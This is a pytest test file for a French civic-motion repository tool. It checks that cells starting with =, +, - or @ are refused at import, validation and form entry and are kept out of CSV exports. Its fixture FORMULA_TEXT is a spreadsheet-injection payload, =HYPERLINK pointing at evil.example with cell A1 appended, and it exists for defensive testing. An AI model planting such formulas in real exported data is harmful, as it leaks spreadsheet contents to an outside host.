"""No formula in any CSV we write (hazards.md 19), without altering data: a value a spreadsheet
would run is refused where it enters the repository (a motion file, a CSV import, the issue form,
`petition new`), with how to fix it; and the exports never publish a cell starting that way."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from conftest import CAMPAIGN, OBJET, RepoBuilder, motion_data
from petition.core.model import Motion
from petition.core.opendata import CSV_TEXT_FIELDS
from petition.core.repository import Repository, load_repository
from petition.core.schemas import is_multiline
from petition.exchange.csvformats import FIELDS, SCDL_COLUMNS
from petition.exchange.export import FORMULA, build_export
from petition.exchange.writer import dump_motion
from petition.text.mdtext import after

FORMULA_TEXT = '=HYPERLINK("https://evil.example/?"&A1)'
REFUSED = (f"« {FORMULA_TEXT} » commence par « = » : un tableur qui ouvre les données ouvertes "
           "(CSV) l'exécuterait comme une formule ; reformulez pour commencer par une lettre ou "
           "un chiffre (par exemple « Motion : … »)")
PROTECTED = "'" + FORMULA_TEXT
LENS = f"motions/{CAMPAIGN}/commune-62498-lens-2023-09-27.yml"
ISSUES = Path(__file__).parent / "data" / "issues"
TEMPLATE_HEADER = "type,code,nom,date,nature,objet,effectif,presents,pouvoirs,pour,contre," \
                  "abstentions,resultat,url"


def csv_cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def test_validate_refuses_a_formula(repo: RepoBuilder) -> None:
    repo.add(motion_data(objet=FORMULA_TEXT))
    result = repo.run("validate")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [f"{LENS}:9: {REFUSED}"]
    # a motion in error is in no export: the formula never reaches a CSV
    for fmt in ("scdl", "csv"):
        assert FORMULA_TEXT not in repo.run("export", "--format", fmt).stdout


@pytest.mark.parametrize(("field", "value", "start"), [
    ("instance", "+33 Conseil municipal", "+"),
    ("identifiant", "-DEL-12", "-"),
    ("identifiant", "@DEL-12", "@"),
])
def test_every_formula_start_is_refused(repo: RepoBuilder, field: str, value: str,
                                        start: str) -> None:
    repo.add(motion_data(**{field: value}))
    result = repo.run("validate")
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [
        f"{LENS}:{7 if field == 'instance' else 9}: « {value} » commence par « {start} » : un "
        "tableur qui ouvre les données ouvertes (CSV) l'exécuterait comme une formule ; "
        "reformulez pour commencer par une lettre ou un chiffre (par exemple « Motion : … »)"]


@pytest.mark.parametrize(("escape", "said"), [
    ("\\t", "tabulation interdit : ce champ tient sur une seule ligne ; un texte sur plusieurs "
             "lignes n'est permis que dans les champs de texte long (texte, notes, demandes…)"),
    ("\\r", "caractère de contrôle interdit (U+000D) dans « objet » : supprimez-le, il peut "
             "masquer ou inverser le texte affiché (écrivez le texte lui-même, sans séquence "
             "« \\ »)"),
])
def test_a_leading_tab_or_cr_is_refused_once(repo: RepoBuilder, escape: str, said: str) -> None:
    """Tab and CR are refused in every one-line field by the character rule: one message."""
    text = dump_motion(motion_data()).replace(
        f"objet: {OBJET}", f'objet: "{escape}{OBJET}"')
    repo.write(LENS, text)
    result = repo.run("validate")
    assert result.exit_code == 1
    (line,) = result.stdout.splitlines()
    assert line.startswith(f"{LENS}:9: ") and line.endswith(said)


def test_csv_fields_are_one_line_fields() -> None:
    """Which is why a leading tab or CR needs no formula message of its own."""
    for path in CSV_TEXT_FIELDS:
        assert not is_multiline("motion", path), path
    assert not is_multiline("motion", ("sources", 0, "url"))


def test_name_and_source_address_are_checked_too(repo: RepoBuilder) -> None:
    # « -Lens » differs from « Lens » only by a hyphen, which the name check forgives (a warning)
    repo.add(motion_data(collectivite={"type": "commune", "code": "62498", "nom": "-Lens"},
                         sources=[{"url": "https://www.example.fr/a.pdf"}, {"url": "@x"}]),
             name="commune-62498-lens-2023-09-27.yml")
    messages = repo.run("validate").stdout
    assert "« -Lens » commence par « - »" in messages
    assert "« @x » commence par « @ »" in messages


def test_template_import_refuses_a_formula(repo: RepoBuilder, tmp_path: Path) -> None:
    source = tmp_path / "modele.csv"
    source.write_text(f"{TEMPLATE_HEADER}\ncommune,62498,Lens,2023-09-27,motion,"
                      f"{csv_cell(FORMULA_TEXT)},,,,,,,adoptee,\n"
                      # protected with an apostrophe in the spreadsheet: the same value
                      f"commune,62510,Liévin,2023-09-27,motion,{csv_cell(PROTECTED)}"
                      ",,,,,,,adoptee,\n", "utf-8")
    result = repo.run("import", str(source), "--campaign", CAMPAIGN)
    assert result.exit_code == 1
    assert result.stdout.splitlines() == [f"{source}:2: colonne « objet » : {REFUSED}",
                                          f"{source}:3: colonne « objet » : {REFUSED}"]
    assert not list((repo.root / f"motions/{CAMPAIGN}").glob("commune-*"))


def test_scdl_import_refuses_a_formula(repo: RepoBuilder, tmp_path: Path) -> None:
    source = tmp_path / "deliberations.csv"
    cells = ["Lens", "21620498200013", "D1", "2023-09-27", "9.4", "", csv_cell(FORMULA_TEXT),
             "", "", "", "", "", "", "", "", "", ""]
    source.write_text(",".join(SCDL_COLUMNS) + "\n" + ",".join(cells) + "\n", "utf-8")
    result = repo.run("import", str(source), "--campaign", CAMPAIGN)
    assert (result.exit_code, result.stdout.splitlines()) == (
        1, [f"{source}:2: colonne « DELIB_OBJET » : {REFUSED}"])
    assert not (repo.root / LENS).exists()


def test_issue_form_refuses_a_formula(sample_repo: RepoBuilder, tmp_path: Path) -> None:
    event = json.loads((ISSUES / "valide.json").read_text("utf-8"))
    body = event["issue"]["body"]
    event["issue"]["body"] = body.replace(
        "Motion du collectif pour les bibliothèques de proximité", FORMULA_TEXT)
    path = tmp_path / "event.json"
    path.write_text(json.dumps(event), "utf-8")
    comment = tmp_path / "comment.md"
    result = sample_repo.run("from-issue", str(path), "--write", "--comment-file", str(comment))
    line = event["issue"]["body"].splitlines().index("### Objet") + 1
    assert (result.exit_code, result.stdout, result.stderr) == (
        1, "", f"ticket #12:{line}: Objet : {REFUSED}\n")
    assert f"- **Objet** : {after(REFUSED)}\n" in comment.read_text("utf-8")  # shown inert
    assert not list((sample_repo.root / f"motions/{CAMPAIGN}").glob("commune-62510-*"))


def test_new_asks_again_and_no_input_refuses(repo: RepoBuilder) -> None:
    result = repo.run("new", input="\n".join([
        CAMPAIGN, "commune", "62510", "o", "", "2023-09-27", "", FORMULA_TEXT,
        "Motion : bibliothèques", "", "", "", "", "", "", "", "", "", "",
        "https://www.lievin.fr/motion.pdf", "", "o"]) + "\n")
    assert result.exit_code == 0, result.output
    assert result.stderr.splitlines() == [f"  ✗ {REFUSED}"]
    options = repo.run("new", "--campaign", CAMPAIGN, "--type", "commune", "--code", "62498",
                       "--date", "2023-09-27", "--nature", "motion", "--objet", FORMULA_TEXT,
                       "--resultat", "adoptee", "--no-input")
    assert options.exit_code == 1
    assert options.stderr.splitlines() == [f"{LENS}:8: {REFUSED}",
                                           "Rien n'a été écrit : corrigez les réponses ci-dessus."]


def test_every_text_column_of_our_csv_files_is_checked() -> None:
    """Each motion text a CSV column carries is one `petition validate` checks for formulas."""
    checked = {tuple(path) for path in CSV_TEXT_FIELDS} | {("sources", "url")}
    for fields in FIELDS.values():
        for column in fields:
            if column.kind == "text" and column.path:
                assert tuple(p for p in column.path if isinstance(p, str)) in checked, column


@pytest.mark.parametrize("fmt", ["scdl", "csv"])
def test_export_guard_leaves_out_never_alters(repo: RepoBuilder, fmt: str) -> None:
    """Defence in depth: a motion that reached an export without validation (here, built by hand)
    is left out and named, not published with an altered cell."""
    data = motion_data(objet=FORMULA_TEXT, identifiant="2023-118",
                       collectivite={"type": "commune", "code": "62498", "nom": "Lens",
                                     "siret": "21620498200013"})
    loaded = load_repository(repo.root)
    unchecked = Repository(repo.root, loaded.campaigns, [Motion(LENS, data)], [])
    built = build_export(unchecked, fmt)
    assert built.motions == 0
    assert FORMULA_TEXT not in built.text and "HYPERLINK" not in built.text
    assert [(left.reason, left.problem.text()) for left in built.left_out] == [
        (FORMULA, f"{LENS}:1: colonne {'DELIB_OBJET' if fmt == 'scdl' else 'objet'} : {REFUSED} "
                  "; motion laissée hors de l'export")]
    assert dump_motion(data)  # the data itself was not touched
    assert data["objet"] == FORMULA_TEXT
